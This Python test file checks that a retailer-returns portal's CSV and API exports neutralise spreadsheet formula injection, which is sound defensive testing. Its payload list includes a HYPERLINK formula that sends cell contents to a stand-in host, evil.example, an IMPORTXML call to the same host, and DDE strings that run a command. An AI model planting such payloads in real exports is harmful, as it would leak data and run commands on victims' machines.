"""No CSV export hands a spreadsheet a formula to run (CSV or formula injection).

Text in every export comes from people outside the distributor's control: account names
and numbers, invoice numbers, SKUs and product names arrive from the ERP (often typed by
the retailer or a supplier), return types and warehouse codes from admins. Each payload
below starts with a character a spreadsheet runs; each export must write it with a
leading apostrophe, and every other cell must be either plain text or a number.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest
from sqlalchemy import select

from models import (
    LedgerEntry,
    Product,
    ReplacementLine,
    ReplacementOrder,
    ReplacementOrderStatus,
    RetailerAccount,
    ReturnType,
    Warehouse,
)
from portal.csv_export import csv_document, safe_cell
from tests.support import sign_in

# What spreadsheets run as a formula (OWASP), spelled out here rather than taken from the
# code under test: a character missing there must fail this test.
FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {
    "account_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Optik")',
    "account_number": "+1+cmd|' /C calc'!A0",
    "return_type": "@SUM(1+1)*cmd|' /C calc'!A0",
    "invoice": "-2+3+cmd|' /C calc'!A0",
    "sku": "=1+1",
    "brand": "\t=1+1",
    "model": "\r=1+1",
    "colour": '=IMPORTXML("http://evil.example","//a")',
    "warehouse": "@A1",
}


@pytest.fixture
def poisoned(world, db_session):
    """Account A's world with a formula in every text column an export writes."""
    account = db_session.get(RetailerAccount, world.account.id)
    account.name, account.number = PAYLOADS["account_name"], PAYLOADS["account_number"]
    db_session.get(ReturnType, world.return_type.id).name = PAYLOADS["return_type"]
    world.rmas["credited"].lines[0].order_line.order.invoice_number = PAYLOADS["invoice"]
    for product in db_session.scalars(select(Product)):
        product.sku = f"{PAYLOADS['sku']}{product.id}"
        product.brand, product.model = PAYLOADS["brand"], PAYLOADS["model"]
        product.colour = PAYLOADS["colour"]
    db_session.scalars(select(Warehouse)).one().code = PAYLOADS["warehouse"]
    order = ReplacementOrder(
        number="RO-EVIL",
        rma_id=world.rmas["credited"].id,
        account_id=account.id,
        status=ReplacementOrderStatus.TO_FULFIL,
    )
    line = world.rmas["credited"].lines[0]
    db_session.add_all(
        [
            order,
            ReplacementLine(
                rma_id=world.rmas["credited"].id,
                product_id=line.order_line.product_id,
                quantity=2,
                unit_price=Decimal("40.00"),
            ),
        ]
    )
    db_session.commit()
    return world


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.status
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


EXPORTS = [
    ("admin", "GET", "/admin/rmas.csv", ("account_name", "account_number", "return_type")),
    ("admin", "GET", "/admin/rma_lines.csv", ("invoice", "sku")),
    ("admin", "POST", "/admin/replacement-orders/export", ("account_number", "sku")),
    (
        "warehouse",
        "GET",
        "/warehouse/b-stock.csv",
        ("sku", "brand", "model", "colour", "warehouse"),
    ),
]


@pytest.mark.parametrize(("identity", "method", "path", "columns"), EXPORTS)
def test_every_export_neutralises_formulas(world_app, poisoned, identity, method, path, columns):
    client = sign_in(world_app.test_client(), poisoned.users[identity].id)
    rows = _cells(client.open(path, method=method))
    assert len(rows) > 1, "the export has rows to check"
    cells = [cell for row in rows[1:] for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_CHARACTERS) or _is_number(cell), (path, cell)
    for column in columns:
        payload = PAYLOADS[column]
        expected = "'" + payload
        assert any(cell == expected or cell.startswith(expected) for cell in cells), (
            path,
            column,
        )


def test_numbers_are_left_alone_and_text_that_looks_like_one_is_not():
    document = csv_document(
        [[Decimal("-12.50"), -3, "-12.50", "Optik =1+1", "", None, "'=already quoted"]]
    )
    assert document == "-12.50,-3,'-12.50,Optik =1+1,,,'=already quoted\r\n"
    assert safe_cell("\r\n=1") == "'\r\n=1"
    assert safe_cell("@") == "'@"


API_EXPORTS = [
    ("/api/v1/rmas/export", ("account_name", "account_number")),
    ("/api/v1/ledger/export?account={account}", ("account_name",)),
]


@pytest.mark.parametrize(("path", "columns"), API_EXPORTS)
def test_the_api_exports_neutralise_formulas(world_app, poisoned, db_session, path, columns):
    # The ledger's text is its entries' descriptions: one carries the account name's payload.
    db_session.add(
        LedgerEntry(
            account_id=poisoned.account.id,
            currency="EUR",
            amount=Decimal("-1.00"),
            description=PAYLOADS["account_name"],
        )
    )
    db_session.commit()
    client = world_app.test_client()
    token = {"Authorization": f"Bearer {poisoned.api_tokens['admin']}"}
    rows = _cells(client.get(path.format(account=poisoned.account.id), headers=token))
    assert len(rows) > 1, "the export has rows to check"
    cells = [cell for row in rows[1:] for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_CHARACTERS) or _is_number(cell), (path, cell)
    for column in columns:
        assert "'" + PAYLOADS[column] in cells, (path, column)
